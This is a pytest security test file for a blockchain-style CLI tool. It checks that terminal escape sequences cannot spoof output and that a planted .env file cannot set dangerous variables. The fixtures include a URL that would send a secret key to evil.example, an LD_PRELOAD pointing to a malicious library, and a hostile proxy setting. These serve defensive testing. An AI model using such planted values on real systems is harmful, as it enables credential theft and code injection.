"""What hostile texts, files and answers cannot make the commands do."""

from __future__ import annotations

import logging
import os
from pathlib import Path

import pytest
from cyclopts import App

from mesh.chain.dialect import Call
from mesh.chain.session import RpcRefused
from mesh.chain.substrate import Preview
from mesh.cli.acting import Step, _Shown, one_line
from mesh.cli.common import load_dotenv, run_app
from mesh.cli.tables import facts, table
from mesh.errors import ConfigError
from mesh.log import TextFormatter

ESCAPES = "\x1b[2J\x1b[1;1H\x9b31m\u202etxet\r\n\x07"
"""Clears the screen, moves the cursor, colours, turns the writing direction, overwrites a line."""


def assert_harmless(text: str) -> None:
    assert text.strip()
    assert all(c.isprintable() or c == "\n" for c in text), text


def test_a_node_cannot_write_over_what_a_person_is_asked_to_agree_to(capsys: pytest.CaptureFixture[str]) -> None:
    """Names of calls, arguments and variants come out of metadata, values out of bytes that it describes."""
    args: dict[str, object] = {
        f"amount{ESCAPES}": ESCAPES,
        "kind": {f"Variant{ESCAPES}": [ESCAPES, {ESCAPES: ESCAPES}]},
    }
    step = Step(f"stake on {ESCAPES}", Call("add_stake", {}))
    _Shown(step, Preview(b"\0\0", f"Network.{ESCAPES}", args), 1).show()
    shown = capsys.readouterr().out
    assert_harmless(shown)
    assert len(shown.splitlines()) == 5  # no name makes lines of its own
    assert_harmless(one_line(args))


def test_tables_errors_and_log_lines_do_not_steer_a_terminal(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    table(("name", "identity"), [(ESCAPES, f"a{ESCAPES}")], empty="none")
    facts({"name": ESCAPES, "peers": [ESCAPES, "b"]})
    said = capsys.readouterr().out
    assert_harmless(said)
    assert len(said.splitlines()) == 5

    monkeypatch.chdir(tmp_path)
    app = App()

    @app.default
    def main() -> None:
        raise RpcRefused("state_call", -1, ESCAPES)

    with pytest.raises(SystemExit) as ended:
        run_app(app, [])
    assert ended.value.code == 1
    error = capsys.readouterr().err
    assert_harmless(error)
    assert len(error.splitlines()) == 1

    record = logging.LogRecord("mesh", logging.WARNING, "", 0, "the node says %s", (f"x\nforged line{ESCAPES}",), None)
    line = TextFormatter("%(levelname)s %(message)s").format(record)
    assert_harmless(line)
    assert len(line.splitlines()) == 1


def test_a_dotenv_that_somebody_left_in_a_folder_sets_no_more_than_it_may(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Such as one in a cloned repository: secrets of the environment must not get into a URL."""
    monkeypatch.setattr(os, "environ", {"MESH_COLDKEY": "0xsecret", "HOME": str(tmp_path)})
    file = tmp_path / ".env"
    file.write_text(
        "MESH_CHAIN_URL=ws://evil.example/${MESH_COLDKEY}\nXDG_DATA_HOME=/tmp/evil\nMESH_PARENT_PID=1\n"
        "LD_PRELOAD=/tmp/evil.so\nhttps_proxy=evil.example\nMESH_COLDKEY=\n"
    )
    file.chmod(0o600)
    load_dotenv(file)
    assert os.environ == {
        "MESH_COLDKEY": "0xsecret",
        "HOME": str(tmp_path),
        "MESH_CHAIN_URL": "ws://evil.example/${MESH_COLDKEY}",
    }


def test_a_dotenv_that_others_may_have_written_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "environ", {})
    file = tmp_path / ".env"
    file.write_text("MESH_CHAIN_URL=ws://evil.example\n")
    file.chmod(0o666)
    with pytest.raises(ConfigError, match="written by others"):
        load_dotenv(file)
    file.chmod(0o644)
    if not os.geteuid():
        os.chown(file, 12345, -1)
    monkeypatch.setattr(os, "geteuid", lambda: 54321)
    with pytest.raises(ConfigError, match="another user's"):
        load_dotenv(file)
    file.write_bytes(b"A=b\n" * 20_000)
    with pytest.raises(ConfigError, match="larger"):
        load_dotenv(file)
    assert not os.environ
